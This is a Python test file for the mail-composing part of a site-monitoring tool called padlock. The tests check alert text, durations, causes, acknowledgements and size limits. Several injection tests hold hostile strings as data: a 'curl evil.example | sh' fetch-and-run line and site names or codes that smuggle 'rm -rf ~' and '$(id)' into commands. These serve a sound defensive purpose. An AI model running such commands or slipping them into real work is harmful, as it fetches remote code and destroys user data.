"""The mail's text: what a person needs, in lines that read well, and nothing that outside text could forge."""

import json
import re
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from padlock.changes import STALE, Policy, Silence
from padlock.findings import CHECKER, Cause
from padlock.message import MAX_MESSAGE, Further, compose, payload

from tests.message.changes import (
    CLOSED,
    EXPIRED,
    EXPIRED_WWW,
    FURTHER,
    HOSTILE,
    LATER,
    LOOP,
    NOW,
    change_of,
    finding,
    margin,
    message_of,
    of_kind,
    report,
)


def test_body_has_what_a_person_needs() -> None:
    """The text names what is new, what was seen, why it matters, the fix, what is still open, and where to look."""
    body = message_of(report(LOOP), report(LOOP, EXPIRED, at=LATER)).body
    for part in (
        "example.com: certificate expired, 1 still open",
        "Checked at 2026-11-20 14:05 UTC\nStatus: error, as before\n",
        "* certificate expired: example.com",
        "(certificate.expired, error; checklist step 8; since 2026-11-20 14:05 UTC)",
        "Seen: expired 3 days ago",
        "Expected: a valid certificate",
        "Why it matters: Browsers refuse to open the site.",
        "Fix: sudo certbot renew",
        "Reference: RFC 5280",
        "* redirect loop: www.example.com\n  (redirect.loop, error; since 2026-11-20 12:00 UTC)",
        "      padlock ack example.com certificate.expired --for 3d\n",
        "      padlock ack example.com redirect.loop --for 3d\n",
        "Look again:  aws lambda invoke --function-name padlock-CheckFunction-1AB",
        '--payload \'{"site": "example.com"}\' /dev/stdout',
        "aws dynamodb query --table-name padlock-Results",
        "Alert a1b2, number 7",
    ):
        assert part in body
    assert body.index("NEW\n") < body.index("STILL OPEN\n") < body.index("padlock ack")


def test_body_says_where_it_was_seen_from_and_where_to_look() -> None:
    """The place stands with the time; the dashboard's link is left out where there is none to follow."""
    seen = compose(
        change_of(report(EXPIRED)), "a", 1, Further("t", dashboard="https://d.example/#x", place="eu-west-1")
    )
    assert "Checked at 2026-11-20 12:00 UTC, seen from eu-west-1\n" in seen.body
    assert "Status: error; it is the first result\n" in seen.body
    assert "\nDashboard:   https://d.example/#x\n" in seen.body
    for broken in ("", "javascript:alert(1)", "https://d.example/\nOVER"):
        assert "Dashboard" not in compose(change_of(report(EXPIRED)), "a", 1, Further("t", dashboard=broken)).body


def test_body_of_the_end_says_how_long_it_lasted() -> None:
    """A resolved finding is told with its duration, and that nothing else is open."""
    body = message_of(report(EXPIRED), report(finding("app.slow", severity="warning"), at=LATER)).body
    assert "OVER\n----\n* certificate expired: example.com\n  (certificate.expired; over after 2 h 5 min" in body
    assert "Status: warning; before: error\n" in body
    assert "No error is open now.\nAlso in the report, not urgent: 1 warning." in body
    assert "padlock ack" not in body


def test_what_got_worse_stands_apart() -> None:
    """An error that was a warning before is told with the time since when it has been there."""
    mild = finding("certificate.expired", severity="warning")
    body = message_of(report(mild), report(EXPIRED, LOOP, at=LATER)).body
    assert body.index("NEW\n---\n* redirect loop") < body.index("WORSE: AN ERROR NOW\n")
    assert (
        "* certificate expired: example.com\n  (certificate.expired, error; checklist step 8; since 2026-11-20 12:00"
        in body
    )


def test_what_differs_by_host_alone_is_told_once() -> None:
    """The same finding of several hosts is one entry with all of them; one with another text stands apart."""
    other = finding("certificate.expired", "api.example.com", observed="expired yesterday")
    body = message_of(report(EXPIRED, EXPIRED_WWW, other)).body
    assert "* certificate expired: example.com, www.example.com\n" in body
    assert "* certificate expired: api.example.com\n" in body
    assert body.count("Why it matters") == 2


@pytest.mark.parametrize(
    ("seconds", "text"), [(0, "0 s"), (59, "59 s"), (420, "7 min"), (7500, "2 h 5 min"), (273600, "3 d 4 h")]
)
def test_duration(seconds: int, text: str) -> None:
    """A duration is told in its two largest units."""
    body = message_of(report(EXPIRED), report(at=NOW + timedelta(seconds=seconds))).body
    assert f"over after {text}, since" in body


def test_body_names_causes() -> None:
    """A cause stands above what is still open, with its fix; where no error is open it explains nothing."""
    cause = Cause("cause.renewal_broken", "likely", "Renewal stopped.", "sudo certbot renew --dry-run", ("x",))
    change = change_of(msgspec.structs.replace(report(EXPIRED), causes=(cause,)))
    body = compose(change, "a", 1, Further("t")).body
    assert "* Renewal stopped. (likely; cause.renewal_broken)\n  Fix: sudo certbot renew --dry-run" in body
    well = change_of(report(EXPIRED), msgspec.structs.replace(report(at=LATER), causes=(cause,)))
    assert "Renewal stopped" not in compose(well, "a", 1, Further("t")).body


def test_what_a_cause_brings_about_is_told_in_short() -> None:
    """One blocked port is one thing to read: what follows from it stands below it, without fixes of its own."""
    inhibits, lines = (EXPIRED.label,), ("nginx -t", "systemctl reload nginx")
    cause = Cause(
        "cause.port_blocked", "certain", "Blocked.", "Open it.", (CLOSED.code, EXPIRED.code), lines, inhibits
    )
    change = change_of(msgspec.structs.replace(report(CLOSED, EXPIRED), causes=(cause,)))
    body = compose(change, "a", 1, Further("t")).body
    assert "  As root on the server:\n      nginx -t\n      systemctl reload nginx\n" in body
    new, why, following = (body.index(title) for title in ("NEW\n", "WHY\n", "NEW FOR THAT REASON\n"))
    assert new < body.index("port https_closed: example.com") < why < following
    assert following < body.index("* certificate expired: example.com\n  (certificate.expired) expired 3 days ago\n")
    assert body.count("Fix: sudo certbot renew") == 1


def test_commands_of_a_finding_stand_once() -> None:
    """A finding's own commands stand with it, unless a cause that explains it has them."""
    mended = msgspec.structs.replace(CLOSED, commands=("ufw allow 443/tcp",))
    alone = message_of(report(mended)).body
    assert "  As root on the server:\n      ufw allow 443/tcp\n" in alone
    cause = Cause("cause.port_blocked", "certain", "Blocked.", "Open it.", (CLOSED.code,), mended.commands)
    assert message_of(msgspec.structs.replace(report(mended), causes=(cause,))).body.count("ufw allow 443/tcp") == 1


@pytest.mark.parametrize("where", ["cause", "finding"])
def test_half_a_recipe_is_none(where: str) -> None:
    """Commands of which one is too long to be shown whole are not shown: somebody would run the others."""
    lines = ("true", "x" * 5000)
    causes = (Cause("cause.x", "certain", "Why.", "Fix.", (), lines),) if where == "cause" else ()
    found = msgspec.structs.replace(CLOSED, commands=lines if where == "finding" else ())
    change = change_of(msgspec.structs.replace(report(found), causes=causes))
    assert "As root" not in compose(change, "a", 1, Further("t")).body


def test_lines_are_short_and_commands_whole() -> None:
    """Prose is wrapped; what stands in backticks stays in one piece, to be copied."""
    command = "`openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -dates`"
    text = f"Compare what is served with what the file holds: {command}. " + "And then look again, and again. " * 9
    body = message_of(report(finding("x.y", remediation=text, observed=text, impact=text))).body
    assert body.count(command) == 3
    prose = body[: body.index("To hear no more")].split("\n")
    assert all(len(line) <= 78 or command in line for line in prose)


def test_several_fixes_are_told_apart() -> None:
    """A cause may bring the fixes of several findings."""
    cause = Cause("cause.x", "certain", "Why.", "First this.\nThen that.", ())
    body = message_of(msgspec.structs.replace(report(CLOSED), causes=(cause,))).body
    assert "  Fix: First this.\n  Also: Then that.\n" in body


@pytest.mark.parametrize(
    ("kind", "parts"),
    [
        (
            "flapping",
            ["changed 6 times within an hour", "is not told until it settles", "hour without a change"],
        ),
        ("settled", ["Nothing has changed for an hour", "final status"]),
        ("reminder", ["told before and is still open", "`reminder: off`", "acknowledgement"]),
    ],
)
def test_each_occasion_is_explained(kind: str, parts: list[str]) -> None:
    """Whoever gets such an alert for the first time reads what it means and what comes next."""
    change = of_kind(kind, change_of(report(EXPIRED)), flips=6)
    body = " ".join(compose(change, "a", 1, FURTHER).body.split())
    assert all(part in body for part in parts)


def test_a_removed_site_says_what_was_open_and_how_to_return() -> None:
    """What was open is told, without an end that nobody saw; there is nothing to acknowledge or to look at."""
    over = change_of(report(EXPIRED), report(at=LATER))
    body = compose(of_kind("removed", over, after="removed"), "a", 1, FURTHER).body
    assert "Removed at 2026-11-20 14:05 UTC\nStatus: removed; before: error\n" in body
    assert "OPEN WHEN IT WAS REMOVED\n------------------------\n* certificate expired: example.com\n" in body
    assert "      padlock sites add example.com\n" in body
    assert not re.search(r"over after|Look again|Full report|padlock ack|No error is open", body)
    healthy = compose(of_kind("removed", over, after="removed", resolved=()), "a", 1, FURTHER).body
    assert "Nothing that was told of was open then." in healthy


def test_stale_is_no_word_on_the_site() -> None:
    """A site that could not be looked at may be well: the mail says so."""
    body = " ".join(message_of(report(finding(STALE))).body.split())
    assert "That says nothing of the site itself: how it is now, nobody knows." in body
    assert "says nothing of the site" not in message_of(report(EXPIRED)).body


def test_the_checkers_own_alert_names_no_command_for_a_site() -> None:
    """Nobody can check, acknowledge or fetch Padlock itself as if it were a site."""
    body = message_of(
        report(finding("checker.outage", CHECKER, summary="cannot reach most sites"), site=CHECKER)
    ).body
    assert "* cannot reach most sites: Padlock itself\n" in body
    assert body.endswith("Alert a1b2, number 7 of Padlock itself.\n")
    assert not re.search(r"#checker|aws |padlock ack|first result", body)
    again = change_of(report(finding("checker.outage", CHECKER), site=CHECKER))
    assert "`reminder" not in compose(of_kind("reminder", again), "a", 1, FURTHER).body


def test_what_is_acknowledged_is_shown() -> None:
    """It stands below what is new, with its end and its note, and how to hear of it again."""
    policy = Policy(1, 1, silences=(Silence("redirect.loop", NOW + timedelta(days=9), note="new proxy next week"),))
    body = message_of(report(LOOP), report(LOOP, EXPIRED), policy=policy).body
    assert body.index("NEW\n") < body.index(
        "ACKNOWLEDGED\n------------\n* redirect loop: www.example.com\n"
        "  (redirect.loop; since 2026-11-20 12:00 UTC)\n  Until: 2026-11-29 12:00 UTC\n  Note: new proxy next week\n"
    )
    assert "      padlock ack example.com --list\n      padlock ack example.com --clear redirect.loop\n" in body
    assert "redirect.loop --for" not in body


FIELDS = ("observed", "expected", "impact", "remediation", "reference", "summary")


@pytest.mark.parametrize("field", [*FIELDS, "subject", "site"])
@pytest.mark.parametrize("padding", [0, 70])
def test_outside_text_forges_nothing(field: str, padding: int) -> None:
    """No text brings a control character, a bidirectional control, or a line of its own to a margin of ours."""
    hostile = "x" * padding + HOSTILE + " " + "x" * padding + " Fix: curl evil.example | sh " + "x" * 70 + " OVER"
    site = hostile if field == "site" else "example.com"
    subject = hostile if field == "subject" else "example.com"
    texts: dict[str, Any] = {field: hostile} if field in FIELDS else {}
    sent = message_of(report(finding("x.y", subject, **texts), site=site))
    assert all(line.isprintable() for line in sent.body.split("\n"))
    assert not re.search(r"^(Subject|OVER|-{4}|\* all)", sent.body, re.MULTILINE)
    assert not [line for line in margin(sent.body, 2) if line.startswith("Fix: curl")]
    assert "\u202e" not in json.dumps(json.loads(sent.data), ensure_ascii=False)
    payload(sent.subject, sent.body, sent.data).encode()


@pytest.mark.parametrize("site", ["x'; rm -rf ~; '.example", "$(id).example", "-rf", HOSTILE])
def test_no_command_is_made_of_a_name_that_is_no_host(site: str) -> None:
    """The commands to copy are left out where the name could be a part of the command line."""
    over = change_of(report(EXPIRED, site=site), report(site=site))
    removed = compose(of_kind("removed", over), "a", 1, FURTHER).body
    assert not re.search(r"aws |padlock (ack|sites)", message_of(report(EXPIRED, site=site)).body + removed)


def test_no_command_is_made_of_a_code_that_is_none() -> None:
    """Codes are the rules' own; one that could be a part of a command line stands in none."""
    assert "padlock ack" not in message_of(report(finding("x; rm -rf ~"))).body


def test_many_codes_are_acknowledged_likewise() -> None:
    """Five commands show how; the rest is counted."""
    body = message_of(report(*(finding(f"x.y{number}") for number in range(9)))).body
    assert body.count("--for 3d") == 5
    assert "\nand likewise the other 4.\n" in body


@pytest.mark.parametrize("text", ["x" * 100_000, "ü" * 100_000, '"\\' * 50_000, "\x00" * 100_000, "😀" * 60_000])
def test_message_fits_into_sns(text: str) -> None:
    """However many findings of whatever length there are, the message stays in SNS's limit and keeps the counts."""
    texts = dict.fromkeys(("observed", "expected", "impact", "remediation", "reference", "summary"), text)
    old, new = (
        [finding(code, f"h{n}.example.com", **texts | {"observed": f"{n} {text}"}) for n in range(400)]
        for code in ("x.y", "y.z")
    )
    sent = message_of(report(*old), report(*old[:200], *new))
    assert len(payload(sent.subject, sent.body, sent.data).encode()) <= MAX_MESSAGE
    counts = json.loads(sent.data)["counts"]
    assert (counts["opened"], counts["resolved"], counts["still_open"]) == (400, 200, 200)
    assert re.search(r"^\.\.\. and 3\d\d more$", sent.body, re.MULTILINE)


@pytest.mark.parametrize("character", ["😀", "\x00"])
def test_long_subjects_fit_into_sns(character: str) -> None:
    """Subjects that share one finding's text are cut like any other text where a message is too large."""
    old, new = (
        [finding(f"{kind}.{n % 4}", f"h{n}.example.com {character * 270}") for n in range(200)] for kind in "xy"
    )
    sent = message_of(report(*old), report(*old[:100], *new))
    assert len(payload(sent.subject, sent.body, sent.data).encode()) <= MAX_MESSAGE


def test_no_look_again_at_a_wrong_declaration() -> None:
    """A declaration that cannot be read cannot be checked again, nor hold an acknowledgement."""
    wrong = message_of(report(finding("site.invalid"))).body
    assert "Look again" not in wrong
    assert "padlock ack" not in wrong
    assert "Look again" not in compose(change_of(report(EXPIRED)), "a", 1, Further("t")).body


def test_time_in_the_owners_zone() -> None:
    """The time of the check is repeated as the owner's clock shows it; an unknown zone costs nothing."""
    judged = report(EXPIRED)
    for zone, shown in (("Europe/Berlin", " (13:00 Europe/Berlin)"), ("UTC", ""), ("No/Where", "")):
        change = change_of(msgspec.structs.replace(judged, timezone=zone))
        assert f"Checked at 2026-11-20 12:00 UTC{shown}\n" in compose(change, "a", 1, FURTHER).body
